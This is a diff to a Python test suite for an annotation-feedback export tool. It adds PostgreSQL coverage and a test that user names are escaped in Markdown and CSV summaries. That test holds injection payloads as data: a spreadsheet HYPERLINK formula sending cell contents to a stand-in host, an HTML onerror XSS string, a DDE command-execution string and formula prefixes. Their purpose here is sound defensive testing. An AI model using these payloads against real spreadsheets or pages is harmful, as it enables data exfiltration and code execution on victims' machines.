@@ -29,12 +29,12 @@ def two_blobs() -> np.ndarray:
     return mask
 
 
-@pytest.fixture(scope="module")
-def filled(tmp_path_factory):
+@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
+def filled(request, tmp_path_factory):
     """Three plain cases (two raters each, first rater's correction accepted), one two-lesion case, one NIfTI case,
-    a draft, a rejected correction and a second model version's run."""
+    a draft, a rejected correction and a second model version's run; on SQLite and on PostgreSQL."""
     root = tmp_path_factory.mktemp("export")
-    db = root / "feedback.db"
+    db = root / "feedback.db" if request.param == "sqlite" else request.getfixturevalue("postgres_server").new_database()
     store = FeedbackStore(db)
     made = demo.populate(store, n_cases=3, annotators=("ann-a", "ann-b"), height=H, width=W, seed=3)
     c0 = made["cases"][0]
@@ -129,6 +129,13 @@ def test_sft(filled, tmp_path):
 def test_manifest_versions_the_dataset(filled, tmp_path):
     first = export(filled["db"], tmp_path / "a", "sft")
     second = export(filled["db"], tmp_path / "b", "sft")
+    if "://" in filled["db"]:  # PostgreSQL: no file to hash; the row counts the export saw, and the same files
+        assert first["database"]["backend"] == "postgresql" and first["database"]["snapshot_sha256"] is None
+        assert first["database"]["row_counts"] == second["database"]["row_counts"]
+        assert first["database"]["row_counts"]["feedback"] > 0 and second["files_sha256"] == first["files_sha256"]
+        with pytest.raises(FeedbackError, match="not empty"):
+            export(filled["db"], tmp_path / "a", "sft")
+        return
     saved = json.loads((tmp_path / "a" / "manifest.json").read_text())
     assert saved["database"]["snapshot_sha256"] == first["database"]["snapshot_sha256"]
     assert len(saved["database"]["snapshot_sha256"]) == 64 and saved["code_version"]
@@ -312,6 +319,29 @@ def test_summary(filled, tmp_path, capsys):
     assert "## per annotator" in printed and "| ann-a |" in printed
     assert (tmp_path / "s" / "summary.md").exists() and (tmp_path / "s" / "summary_agreement.csv").exists()
     assert manifest["counts"]["accepted_masks"] == 5
+
+
+def test_summary_escapes_user_names(tmp_path):
+    """User names typed at sign-up reach summary.md and the CSVs as plain text: no HTML or Markdown runs, no
+    spreadsheet formula (= + - @) runs, the table keeps its columns."""
+    import csv
+
+    evil = ('=HYPERLINK("http://x.example/?"&A1,"click")', '<img src=x onerror=alert(1)>|two', "@SUM(A1:A9)",
+            "+cmd|' /C calc'!A0", "-2+3", "[link](http://x.example)")
+    db = str(tmp_path / "evil.db")
+    with FeedbackStore(db) as store:
+        demo.populate(store, n_cases=1, annotators=evil, height=H, width=W, review=False)
+    export(db, tmp_path / "s", "summary")
+    text = (tmp_path / "s" / "summary.md").read_text()
+    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
+    assert "[link](" not in text and "\\[link\\](http://x.example)" in text
+    table = text.split("## per annotator")[1].split("##")[0].strip().splitlines()
+    widths = {len(line.replace("\\|", "").split("|")) for line in table}
+    assert len(widths) == 1  # an escaped | does not add a column
+    with open(tmp_path / "s" / "summary_per_annotator.csv", newline="") as handle:
+        names = [row["annotator"] for row in csv.DictReader(handle)]
+    assert sorted(names) == sorted("'" + n if n[0] in "=+-@" else n for n in evil)
+    assert not any(n[0] in "=+-@" for n in names)
 
 
 def test_agreement_statistics():
